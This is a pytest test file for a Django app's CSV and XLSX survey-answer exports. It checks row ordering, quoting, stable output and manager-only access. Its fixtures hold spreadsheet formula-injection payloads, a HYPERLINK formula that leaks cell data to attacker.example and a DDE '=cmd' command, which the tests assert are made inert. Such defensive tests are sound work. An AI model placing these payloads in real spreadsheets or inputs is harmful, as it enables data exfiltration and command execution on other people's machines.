"""The answers of an assessment as CSV and XLSX: what they hold read back with ``csv`` and
openpyxl, texts that a spreadsheet would run as formulas made inert, the workbook's bytes
stable, and only the assessment's managers served."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from tests.web.meter.conftest import invite, signed_in

from egov.frameworks import load_meter
from egov.web.accounts.roles import Role
from egov.web.meter import exports, selectors, services
from egov.web.meter.models import Answer, Assessment, Respondent
from egov.web.meter.services import AnswerInput

pytestmark = pytest.mark.django_db

EVIL_COMMENT = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.fixture
def answered(countries: None, accounts: dict[Role, User]) -> Assessment:
    """Kazakhstan, four respondents, three of whom answered; one answer revised."""
    actor = accounts[Role.CONTRIBUTOR]
    assessment = services.assessment_create(actor=actor, iso3="KAZ", title="Kazakhstan 2026")

    def respondent(name: str, group: str, sub_group: str, organisation: str) -> Respondent:
        email = f"{name.lower()}@example.org"
        details = {"sub_group": sub_group, "organisation": organisation, "email": email}
        return invite(assessment, actor, name, group, **details)[0]

    # Invited out of the files' order: the files list government, business, civil society,
    # academia.
    erlan = respondent("Erlan", "academia", "universities", "Nazarbayev University")
    dana = respondent("Dana", "civil_society", "ngos", "+Digital Rights NGO")
    bolat = respondent("Bolat", "business", "smes", "=cmd|' /C calc'!A0")
    aigerim = respondent("Aigerim", "government", "ministries_agencies", 'Ministry, "Digital"')
    services.assessment_transition(actor=actor, assessment=assessment, to="open")
    services.answers_save(
        respondent=aigerim,
        answers=[
            AnswerInput("C2.1", "NA", comment="-not a target this year"),
            AnswerInput(
                "C1.1",
                "3",
                comment='Plan adopted in "2024", funded;\nsee the budget law',
                evidence_url="https://example.gov.kz/plan",
                lesson=True,
            ),
            AnswerInput("C1.2", "DK"),
        ],
    )
    services.answers_save(
        respondent=bolat,
        answers=[
            AnswerInput("C2.2", "4", comment="@SUM(1+1)"),
            AnswerInput("C2.1", "1", EVIL_COMMENT),
        ],
    )
    services.answers_save(respondent=dana, answers=[AnswerInput("C2.1", "2", comment="Жақсы")])
    services.answers_save(
        respondent=dana, answers=[AnswerInput("C2.1", "3", comment="Жақсы\x0bбірақ баяу")]
    )
    assert not erlan.answers.exists()
    return assessment


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8")
    assert text.endswith("\r\n")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_csv_has_a_row_per_answer_in_group_then_framework_order(answered: Assessment) -> None:
    content = exports.answers_csv(answered)
    assert content.split(b"\r\n")[0].decode() == ",".join(exports.ANSWER_COLUMNS)
    rows = _csv_rows(content)
    assert [(r["respondent_name"], r["statement"]) for r in rows] == [
        ("Aigerim", "C1.1"),
        ("Aigerim", "C1.2"),
        ("Aigerim", "C2.1"),
        ("Bolat", "C2.1"),
        ("Bolat", "C2.2"),
        ("Dana", "C2.1"),
    ]
    framework = load_meter(answered.framework_id)
    answer = Answer.objects.get(respondent__name="Aigerim", statement="C1.1")
    assert rows[0] == {
        "assessment": str(answered.pk),
        "iso3": "KAZ",
        "framework": framework.id,
        "respondent": str(answer.respondent_id),
        "respondent_name": "Aigerim",
        "organisation": 'Ministry, "Digital"',
        "group": "government",
        "sub_group": "ministries_agencies",
        "pillar": "C",
        "subtheme": "C1",
        "statement": "C1.1",
        "statement_text": framework.statement("C1.1").text,
        "value": "3",
        "value_label": framework.scale.labels[3],
        "comment": 'Plan adopted in "2024", funded;\nsee the budget law',
        "evidence_url": "https://example.gov.kz/plan",
        "lesson": "true",
        "revision": "1",
        "updated_at": answer.updated_at.strftime("%Y-%m-%dT%H:%M:%SZ"),
    }
    assert rows[0]["updated_at"].endswith("Z")
    assert (rows[1]["value"], rows[1]["value_label"], rows[1]["lesson"]) == (
        "DK",
        "Don't know",
        "false",
    )
    assert (rows[2]["value"], rows[2]["value_label"]) == ("NA", "Not applicable")
    dana = rows[5]
    assert (dana["value"], dana["revision"], dana["comment"]) == ("3", "2", "Жақсы\x0bбірақ баяу")
    assert dana["group"] == "civil_society"
    assert "Erlan" not in {r["respondent_name"] for r in rows}


def test_the_csv_quotes_as_rfc_4180_says(answered: Assessment) -> None:
    text = exports.answers_csv(answered).decode("utf-8")
    assert '"Ministry, ""Digital"""' in text
    assert '"Plan adopted in ""2024"", funded;\nsee the budget law"' in text


def test_formulas_are_made_inert_in_the_csv(answered: Assessment) -> None:
    rows = _csv_rows(exports.answers_csv(answered))
    by_name = {(r["respondent_name"], r["statement"]): r for r in rows}
    assert by_name["Bolat", "C2.1"]["comment"] == "'" + EVIL_COMMENT
    assert by_name["Bolat", "C2.2"]["comment"] == "'@SUM(1+1)"
    assert by_name["Bolat", "C2.1"]["organisation"] == "'=cmd|' /C calc'!A0"
    assert by_name["Dana", "C2.1"]["organisation"] == "'+Digital Rights NGO"
    assert by_name["Aigerim", "C2.1"]["comment"] == "'-not a target this year"
    risky = [value for r in rows for value in r.values() if value and value[0] in "=+-@\t\r"]
    assert risky == []


def test_the_workbook_holds_the_answers_and_every_respondent(answered: Assessment) -> None:
    workbook = load_workbook(io.BytesIO(exports.answers_xlsx(answered)))
    assert workbook.sheetnames == ["answers", "respondents"]
    sheet = list(workbook["answers"].iter_rows(values_only=True))
    assert sheet[0] == exports.ANSWER_COLUMNS
    csv_rows = _csv_rows(exports.answers_csv(answered))
    assert len(sheet) == len(csv_rows) + 1
    for cells, row in zip(sheet[1:], csv_rows, strict=True):
        read = dict(zip(exports.ANSWER_COLUMNS, cells, strict=True))
        # The scale's values are numbers, DK and NA codes; lesson a boolean; ids numbers.
        assert read["value"] == (int(row["value"]) if row["value"].isdigit() else row["value"])
        assert read["lesson"] is (row["lesson"] == "true")
        assert (read["assessment"], read["revision"]) == (answered.pk, int(row["revision"]))
        texts = {k: v for k, v in read.items() if isinstance(v, str)}
        # A control character XML cannot hold is dropped; every other text is as in the CSV.
        assert texts == {k: row[k].replace("\x0b", "") for k in texts}
        assert {k: row[k] for k in row if read[k] is None} == {
            k: "" for k in row if read[k] is None
        }
    people = list(workbook["respondents"].iter_rows(values_only=True))
    assert people[0] == exports.RESPONDENT_COLUMNS
    assert [p[1] for p in people[1:]] == ["Aigerim", "Bolat", "Dana", "Erlan"]
    progress = {
        p.respondent.name: p for p in selectors.assessment_progress(assessment=answered).respondents
    }
    erlan = dict(zip(exports.RESPONDENT_COLUMNS, people[4], strict=True))
    assert erlan["answered"] == 0
    assert erlan["expected"] == progress["Erlan"].expected
    assert erlan["expected"] == len(selectors.expected_statements(load_meter(), "academia"))
    assert (erlan["progress_percent"], erlan["last_answer_at"], erlan["finished_at"]) == (
        0,
        None,
        None,
    )
    assert erlan["email"] == "erlan@example.org"
    aigerim = dict(zip(exports.RESPONDENT_COLUMNS, people[1], strict=True))
    assert (aigerim["answered"], aigerim["expected"]) == (3, progress["Aigerim"].expected)
    assert str(aigerim["invited_at"]).endswith("Z")


def test_formulas_are_made_inert_in_the_workbook(answered: Assessment) -> None:
    workbook = load_workbook(io.BytesIO(exports.answers_xlsx(answered)))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + EVIL_COMMENT in texts
    assert "'=cmd|' /C calc'!A0" in texts
    assert not [t for t in texts if t and t[0] in "=+-@"]


def test_the_workbook_is_a_function_of_the_answers(answered: Assessment) -> None:
    first = exports.answers_xlsx(answered)
    assert exports.answers_xlsx(answered) == first
    assert exports.answers_csv(answered) == exports.answers_csv(answered)


def test_an_assessment_without_answers_gives_a_header_and_its_respondents(
    countries: None, accounts: dict[Role, User]
) -> None:
    actor = accounts[Role.CONTRIBUTOR]
    empty = services.assessment_create(actor=actor, iso3="KAZ", title="Nobody yet")
    services.respondent_invite(actor=actor, assessment=empty, name="Aigerim", group="government")
    assert _csv_rows(exports.answers_csv(empty)) == []
    workbook = load_workbook(io.BytesIO(exports.answers_xlsx(empty)))
    assert workbook["answers"].max_row == 1
    assert workbook["respondents"].max_row == 2


@pytest.mark.parametrize(
    ("route", "extension", "content_type"),
    [
        ("meter:answers_csv", "csv", "text/csv; charset=utf-8"),
        ("meter:answers_xlsx", "xlsx", exports.XLSX_TYPE),
    ],
)
def test_only_the_managers_download_the_answers(
    answered: Assessment,
    client_as: Callable[[Role], Client],
    route: str,
    extension: str,
    content_type: str,
) -> None:
    url = reverse(route, args=[answered.pk])
    for role in (Role.CONTRIBUTOR, Role.EDITOR, Role.ADMINISTRATOR):
        response = client_as(role).get(url)
        assert response.status_code == 200, role
        assert response["Content-Type"] == content_type
        assert response["Content-Disposition"] == (
            f'attachment; filename="meter-KAZ-{answered.pk}-answers.{extension}"'
        )
        assert response["Cache-Control"] == "private, no-store"
    other = signed_in("contributor2")
    assert other.get(url).status_code == 404
    anonymous = client_as(Role.READER).get(url)
    assert anonymous.status_code == 302
    assert "login" in anonymous["Location"]
    # Published results are public; the answers, which name their respondents, are not.
    actor = User.objects.get(username="contributor")
    for state in ("closed", "published"):
        services.assessment_transition(actor=actor, assessment=answered, to=state)
    assert other.get(url).status_code == 404
    assert client_as(Role.READER).get(url).status_code == 302
    assert client_as(Role.CONTRIBUTOR).get(url).status_code == 200
    assert client_as(Role.EDITOR).get(reverse(route, args=[answered.pk + 1000])).status_code == 404
    assert client_as(Role.EDITOR).post(url).status_code == 405
